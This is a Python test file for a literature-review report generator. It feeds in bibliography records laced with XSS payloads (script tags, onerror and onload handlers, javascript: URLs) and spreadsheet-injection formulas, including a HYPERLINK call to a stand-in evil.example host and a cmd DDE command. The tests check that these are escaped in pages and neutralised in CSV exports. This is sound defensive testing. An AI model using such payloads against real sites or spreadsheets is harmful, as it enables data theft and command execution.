"""A hostile corpus: markup, script URLs and spreadsheet formulas in titles, abstracts,
authors and links. The report renders it as text (no script runs in any page) and the CSV
exports neutralise the formulas."""

from __future__ import annotations

import atexit
import csv
import re
import shutil
import tempfile
from functools import cache
from pathlib import Path

import pytest
import yaml

from synth.report.pages import remote_resources

ROOT = Path(__file__).resolve().parents[2]
KEI_REVIEW = ROOT / "corpus" / "kei-2020" / "review.yml"

SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=1">'
SVG = "<svg onload=window.__pwned=1>"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1)"
#: what must never reach a page unescaped
RAW = (SCRIPT, IMG, SVG, "<script>alert", 'href="javascript:', "href='javascript:")

BIB = f"""@article{{hostile2019,
  title = {{{SCRIPT} Co-production of acute care services with patients}},
  author = {{Mallory, Eve and {SVG}, Trudy}},
  journal = {{Journal of {IMG} Quality}},
  year = {{2019}},
  abstract = {{{IMG} Experience-based co-design brought patients and staff together as equal
    partners to redesign an acute hospital ward in the UK. {SCRIPT}}},
  url = {{javascript:window.__pwned=1}},
}}

@article{{plain2018,
  title = {{Co-producing mental health services with service users}},
  author = {{Smith, Jane}},
  journal = {{Health Expectations}},
  year = {{2018}},
  abstract = {{Service users and staff co-produced a community mental health service in Canada.}},
  doi = {{10.1000/plain.2018}},
}}
"""

RIS = f"""TY  - JOUR
TI  - {HYPERLINK} co-production with patients in primary care
AU  - {CMD}
JO  - "><script>window.__pwned=1</script>
PY  - 2017
AB  - {CMD} Patients and general practice staff co-designed the service as equal partners.
UR  - javascript:alert(document.domain)
ER  - 

TY  - RPRT
TI  - {SUM} patient partners in a children's hospital
AU  - -2+3, Oscar
PY  - 2016
AB  - {SUM} Always Events were co-designed with families in a paediatric hospital in Australia.
UR  - JaVaScRiPt:window.__pwned=1
ER  - 
"""


@cache
def hostile_report() -> object:
    """The hostile corpus run once (its own temporary folder, removed at exit)."""
    from synth.report.run import run_review

    root = Path(tempfile.mkdtemp(prefix="synth-hostile-"))
    atexit.register(shutil.rmtree, root, ignore_errors=True)
    corpus = root / "hostile"
    corpus.mkdir()
    (corpus / "hostile.bib").write_text(BIB, "utf-8")
    (corpus / "hostile.ris").write_text(RIS, "utf-8")
    review = yaml.safe_load(KEI_REVIEW.read_text("utf-8"))
    review["title"] = f"{SCRIPT} Hostile review"
    review["subtitle"] = IMG
    review.pop("stated_figures", None)
    review.pop("published_decisions", None)  # its include_file is the KEI reference list
    (corpus / "review.yml").write_text(yaml.safe_dump(review, allow_unicode=True), "utf-8")
    return run_review(
        corpus=corpus, db=root / "hostile.sqlite", out=root / "reports", progress=False
    )


@pytest.fixture(scope="module")
def hostile() -> object:
    return hostile_report()


def _pages(report: object) -> list[Path]:
    pages = sorted(report.out.glob("*.html"))
    assert {p.name for p in pages} >= {"index.html", "evidence-map.html", "04_evidence_map.html"}
    return pages


@pytest.mark.notebook
@pytest.mark.slow
def test_hostile_corpus_runs(hostile: object) -> None:
    assert all(r.error is None for r in hostile.notebooks)
    assert hostile.notebooks[0].summary["papers"] == 4


@pytest.mark.notebook
@pytest.mark.slow
def test_payloads_appear_only_escaped(hostile: object) -> None:
    escaped_somewhere = False
    for page in _pages(hostile):
        text = page.read_text("utf-8")
        for raw in RAW:
            assert raw.lower() not in text.lower(), (page.name, raw)
        # every script tag is synth's own: the shared plotly.js, a figure's newPlot call, or
        # the standalone map's script and its two data blocks (plotly.js packed, the figure)
        for tag in re.findall(r"<script\b[^>]*>", text, re.I):
            assert re.fullmatch(
                r'<script( src="plotly.min.js" charset="utf-8")? nonce="[\w-]+">|<script>'
                r'|<script type="application/json" id="evidence-map-data">'
                r'|<script type="application/octet-stream" id="plotly-js"'
                r' data-encoding="gzip\+base64">',
                tag,
            ), (page.name, tag)
        assert remote_resources(text) == [], page.name
        escaped_somewhere |= "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in text
    assert escaped_somewhere
    index = (hostile.out / "index.html").read_text("utf-8")
    assert "<h1>&lt;script&gt;window.__pwned=1&lt;/script&gt; Hostile review</h1>" in index
    table = (hostile.out / "04_evidence_map.html").read_text("utf-8")
    assert "=HYPERLINK(" in table  # a formula is just text in HTML


def _export_cells(report: object, folder: Path) -> dict[str, list[dict[str, str]]]:
    from synth.exporting import export_records, export_tags
    from synth.store import connect

    con = connect(report.db)
    export_records(con, folder / "records.csv")
    export_tags(con, folder / "tags.csv")
    con.close()
    out = {}
    for name in ("records.csv", "tags.csv"):
        with open(folder / name, newline="", encoding="utf-8") as fh:
            out[name] = list(csv.DictReader(fh))
    return out


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
LIST_COLUMNS = {"authors", "keywords"}


@pytest.mark.notebook
@pytest.mark.slow
def test_exports_neutralise_formulas(hostile: object, tmp_path: Path) -> None:
    exported = _export_cells(hostile, tmp_path)
    seen = set()
    for name, rows in exported.items():
        for row in rows:
            for column, cell in row.items():
                if column in LIST_COLUMNS:
                    continue  # see test_exports_neutralise_formulas_in_lists
                assert not cell.startswith(FORMULA_START), (name, column, cell)
                seen |= {f for f in (HYPERLINK, CMD, SUM) if cell.startswith("'" + f)}
    assert seen == {HYPERLINK, CMD, SUM}


@pytest.mark.notebook
@pytest.mark.slow
def test_exports_neutralise_formulas_in_lists(hostile: object, tmp_path: Path) -> None:
    exported = _export_cells(hostile, tmp_path)
    for row in exported["records.csv"]:
        for column in LIST_COLUMNS:
            assert not row[column].startswith(FORMULA_START), (column, row[column])


@pytest.mark.notebook
@pytest.mark.browser
@pytest.mark.slow
def test_no_script_runs_in_any_page(hostile: object, browser: object) -> None:
    from tests.browser import console_errors, dialog_open, network_urls

    for page in _pages(hostile):
        browser.get(page.as_uri())
        browser.execute_script("return document.readyState")
        assert not dialog_open(browser), page.name
        assert browser.execute_script("return typeof window.__pwned") == "undefined", page.name
        assert network_urls(browser) == [], page.name
        errors = [e for e in console_errors(browser) if "__pwned" in e.get("message", "")]
        assert errors == [], page.name
